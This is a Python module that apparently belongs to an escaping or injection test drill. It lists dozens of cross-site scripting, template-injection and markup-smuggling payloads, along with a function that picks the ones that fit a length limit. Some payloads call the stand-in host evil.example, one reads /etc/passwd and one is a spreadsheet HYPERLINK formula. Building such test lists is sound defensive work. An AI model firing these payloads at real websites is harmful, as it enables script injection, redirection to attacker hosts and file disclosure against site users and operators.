"""Texts that would run, load or draw something wherever a page forgot to escape one."""

# `fired()` is a function the drill gives the browser; data-drill marks a smuggled element.
PAYLOADS = (
    "<script>fired()</script>",
    '"><script>fired()</script>',
    "'><img src=x onerror=fired()>",
    "</title><script>fired()</script>",
    "</textarea><script>fired()</script>",
    "</script><script>fired()</script>",
    "</style><svg onload=fired()>",
    "</option></select><img src=x onerror=fired()>",
    "</noscript><img src=x onerror=fired()>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<details open ontoggle=fired()>x",
    "<b data-drill>x</b>",
    "<iframe src=javascript:fired()>",
    "<a data-drill href=javascript:fired()>x</a>",
    "<object data=//evil.example/></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form data-drill action=//evil.example>",
    "<template shadowrootmode=open><b data-drill>x</b></template>",
    "<math><mtext><mglyph><style><img src=x onerror=fired()>",
    "<!--><img src=x onerror=fired()>-->",
    "<![CDATA[><img src=x onerror=fired()>]]>",
    '" autofocus onfocus="fired()" x="',
    "' onmouseover='fired()' x='",
    "` onmouseover=`fired()",
    "'-fired()-'",
    "\\';fired();//",
    "javascript:fired()",
    "data:text/html,<script>fired()</script>",
    "&lt;img src=x onerror=fired()&gt;",
    "\\u003cimg src=x onerror=fired()\\u003e",
    "%3Cimg src=x onerror=fired()%3E",
    "\u2028fired()\u2029",
    "＜script＞fired()＜/script＞",
    "{{7*7}}{% load %}${fired()}",
    "{{constructor.constructor('fired()')()}}",
    "[x](javascript:fired())",
    '#read("/etc/passwd") #eval("1")',
    '=HYPERLINK("//evil.example")',
)
ALL = " ".join(PAYLOADS)


def fitting(turn: int, longest: int | None) -> str:
    """All of them where there is room, else the next that fits; at least a part of one."""
    if longest is None or longest >= len(ALL):
        return ALL
    fit = [text for text in PAYLOADS if len(text) <= longest] or [PAYLOADS[0][:longest]]
    return fit[turn % len(fit)]
